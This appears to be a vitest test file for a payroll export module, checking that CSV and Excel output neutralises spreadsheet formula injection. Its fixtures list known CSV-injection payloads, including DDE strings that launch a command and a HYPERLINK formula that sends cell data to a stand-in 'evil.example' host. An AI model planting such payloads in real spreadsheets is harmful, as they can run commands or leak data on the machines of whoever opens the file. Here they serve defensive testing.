import { describe, expect, test } from "vitest";
import { write } from "./payrolls.ts";
import { readCsvRecords, readSheetCells, unzip } from "./read-files.ts";

/** Text that one spreadsheet program or another takes for a formula (OWASP, "CSV injection"). */
const formulas = [
  "=1+1",
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "=WEBSERVICE(A1)",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "-2",
  "+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\r\n=1+1",
  "＝1+1",
  "＋1+1",
  "－2",
  "＠SUM(A1)",
  '="a",=1+1',
  "=1;=2",
  '=1","=2',
];
const harmless = ["a=1", "1-2", "'=1+1", " =1", "mail@example.com", "", "x\n=1", "O'Neil", '"quoted"'];

const records = [...formulas, ...harmless].map((text, index) => ({ index, text, pay: -12.5 }));

describe("CSV", () => {
  for (const delimiter of [",", ";", "\t"]) {
    test(`every formula is inert text with ${JSON.stringify(delimiter)}, and other text is unchanged`, async () => {
      const { content } = await write({ payrollData: { records }, options: { delimiter, totals: false } });
      const [, ...read] = readCsvRecords(content, delimiter);
      expect(read.map((record) => record[1])).toEqual([...formulas.map((text) => `'${text}`), ...harmless]);
    });
  }

  test("formulas in CSV headers are inert text too", async () => {
    const { content } = await write({ payrollData: { records: [{ "=1+1": 1 }] } });
    expect(readCsvRecords(content)[0]).toEqual(["'=1+1"]);
    const columns = [{ key: "=1+1", header: "@SUM(A1)" }];
    const named = await write({ payrollData: { records: [{ "=1+1": 1 }] }, options: { columns } });
    expect(readCsvRecords(named.content)[0]).toEqual(["'@SUM(A1)"]);
  });

  test("typed numbers and amounts stay numbers below zero, their text form does not", async () => {
    const payrollData = {
      records: [{ netPay: -12.5, hours: -3.25, small: -1e-7, typed: "-12.50", text: "-2" }],
    };
    const { content } = await write({
      payrollData,
      options: {
        columns: [
          ...["netPay", "hours", "small"].map((key) => ({ key })),
          { key: "typed", type: "money" },
          { key: "text" },
        ],
        totals: false,
      },
    });
    expect(readCsvRecords(content)[1]).toEqual(["-12.50", "-3.25", "-1e-7", "-12.50", "'-2"]);
  });

  test("CSV formulas are kept when the option allows them", async () => {
    const { content } = await write({
      payrollData: { records: [{ a: "=1+1" }] },
      options: { escapeFormulas: false },
    });
    expect(readCsvRecords(content)[1]).toEqual(["=1+1"]);
  });
});

describe("spreadsheets", () => {
  test("every text is a text cell and every number a number cell, unchanged", async () => {
    const { content } = await write({ format: "excel", payrollData: { records } });
    const [, ...rows] = readSheetCells(content);
    const texts = [...formulas, ...harmless];
    for (const [at, text] of texts.entries()) {
      const cells = rows[at]!;
      expect(cells.find(({ place }) => place.startsWith("A"))).toMatchObject({
        type: "number",
        value: String(at),
      });
      expect(cells.find(({ place }) => place.startsWith("C"))).toMatchObject({
        type: "number",
        value: "-12.5",
      });
      const cell = cells.find(({ place }) => place.startsWith("B"));
      if (text === "") expect(cell).toBeUndefined();
      else expect(cell).toMatchObject({ type: "text", value: text });
    }
  });

  test("the workbook has no formula, macro, link or external reference", async () => {
    const { content } = await write({ format: "excel", payrollData: { records } });
    const files = unzip(Buffer.from(content, "base64"));
    expect([...files.keys()]).toEqual([
      "[Content_Types].xml",
      "_rels/.rels",
      "xl/workbook.xml",
      "xl/_rels/workbook.xml.rels",
      "xl/styles.xml",
      "xl/worksheets/sheet1.xml",
    ]);
    for (const text of files.values())
      expect(text).not.toMatch(/<f[ >/]|TargetMode|<hyperlink|externalLink|<!DOCTYPE/i);
  });

  test("amounts and dates have their own format and stay numbers", async () => {
    const columns = [
      { key: "netPay", type: "money" },
      { key: "day", type: "date" },
    ];
    const payrollData = {
      records: [
        { netPay: -0.05, day: "2026-03-01" },
        { netPay: 1, day: "1899-12-31" },
      ],
    };
    const file = await write({
      format: "excel",
      payrollData,
      options: { columns, dateFormat: "DD/MM/YYYY" },
    });
    const [, first, second] = readSheetCells(file.content);
    expect(first).toEqual([
      { place: "A2", type: "number", style: "1", value: "-0.05" },
      { place: "B2", type: "number", style: "2", value: "46082" },
    ]);
    // Programs disagree about days before March 1900, so such a day is text.
    expect(second![1]).toMatchObject({ type: "text", value: "1899-12-31" });
    const styles = unzip(Buffer.from(file.content, "base64")).get("xl/styles.xml");
    expect(styles).toContain('formatCode="dd\\/mm\\/yyyy"');
  });

  test("characters that XML cannot hold are removed, and literal escapes stay text", async () => {
    const text = "a\u0001b\u001f\ufffe\ud800c _x0041_ \r\n d";
    const { content } = await write({ format: "excel", payrollData: { records: [{ text }] } });
    expect(readSheetCells(content)[1]![0]!.value).toBe("ab\ufffdc _x0041_ \r\n d");
  });
});
